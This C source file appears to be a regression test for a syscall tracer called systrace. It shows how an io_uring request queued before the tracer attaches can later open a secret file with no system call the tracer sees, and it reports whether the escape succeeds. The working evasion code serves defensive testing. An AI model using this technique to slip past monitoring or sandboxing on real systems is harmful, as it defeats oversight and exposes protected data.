/* kio_uring_pending: an io_uring made before systrace attached holds work the kernel runs
 * later for the process, with no system call of its own (review 5, finding 2; class 5).
 * The ring has no poller (no SQPOLL, so no kernel thread for procfs.kernel_worker to see):
 * two linked requests are submitted before the attach -- an IORING_OP_READ of a pipe, which
 * waits, armed on the pipe's poll, and an IORING_OP_OPENAT of TARGET (the secret) linked to
 * it.  After the attach the program only writes a byte into its own pipe (a plain write, no
 * path): the READ completes, and the kernel runs the OPENAT for it, installing a descriptor
 * of the secret in its table; the completion is read from the ring's memory (no call).
 * Under `systrace --attach` this used to read the secret; now systrace refuses to attach a
 * process holding an io_uring descriptor or mapping a ring.
 *
 *   kio_uring_pending TARGET          ($ESC_WAIT_TRACER: wait for a tracer first, attack.h)
 */
#include "attack.h"

#include <linux/io_uring.h>
#include <sys/mman.h>

int main(int argc, char **argv) {
    if (argc < 2)
        usage("kio_uring_pending TARGET");
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = syscall(SYS_io_uring_setup, 8, &p);
    if (ring < 0)
        skipped("io_uring_setup: %s", ename(errno));
    if (!(p.features & IORING_FEAT_SINGLE_MMAP))
        skipped("no IORING_FEAT_SINGLE_MMAP");
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (cq_size > sq_size)
        sq_size = cq_size;
    char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                    IORING_OFF_SQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe),
                                     PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                                     IORING_OFF_SQES);
    if (sq == MAP_FAILED || sqes == MAP_FAILED)
        skipped("mmap of the ring: %s", ename(errno));
    unsigned *sq_tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned *sq_array = (unsigned *)(sq + p.sq_off.array);
    unsigned *cq_head = (unsigned *)(sq + p.cq_off.head);
    unsigned *cq_tail = (unsigned *)(sq + p.cq_off.tail);
    unsigned cq_mask = *(unsigned *)(sq + p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(sq + p.cq_off.cqes);
    int pipefd[2];
    if (pipe(pipefd) < 0)
        skipped("pipe: %s", ename(errno));
    static char byte[1];
    memset(sqes, 0, 2 * sizeof *sqes);
    sqes[0].opcode = IORING_OP_READ;  /* waits for the pipe: armed on its poll */
    sqes[0].fd = pipefd[0];
    sqes[0].addr = (unsigned long)byte;
    sqes[0].len = 1;
    sqes[0].flags = IOSQE_IO_LINK;
    sqes[0].user_data = 1;
    sqes[1].opcode = IORING_OP_OPENAT;  /* ... then this, for the process */
    sqes[1].fd = AT_FDCWD;
    sqes[1].addr = (unsigned long)argv[1];
    sqes[1].open_flags = O_RDONLY;
    sqes[1].user_data = 2;
    unsigned tail = *sq_tail;
    sq_array[tail & (p.sq_entries - 1)] = 0;
    sq_array[(tail + 1) & (p.sq_entries - 1)] = 1;
    __atomic_store_n(sq_tail, tail + 2, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 2, 0, 0, NULL, 0) != 2)
        skipped("io_uring_enter: %s", ename(errno));
    wait_for_tracer();
    note("traced by %d", tracer_pid());
    if (write(pipefd[1], "x", 1) != 1)  /* the trigger: a write to its own pipe */
        blocked("write(pipe): %s", ename(errno));
    double until = now_s() + 5;
    while (now_s() < until) {  /* the completions, read from the ring's memory */
        unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
        if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
            continue;
        struct io_uring_cqe cqe = cqes[head & cq_mask];
        __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
        if (cqe.user_data != 2)
            continue;
        if (cqe.res < 0)
            blocked("IORING_OP_OPENAT: %s", ename(-cqe.res));
        char buf[512] = "";
        ssize_t n = read(cqe.res, buf, sizeof buf - 1);
        if (is_secret_fd(cqe.res) && n > 0 && strstr(buf, SECRET_MAGIC))
            escaped("the ring's pending OPENAT opened the secret (%zd bytes read)", n);
        blocked("the ring opened something else (%s)", fd_name(cqe.res));
    }
    blocked("no completion of the OPENAT came");
}
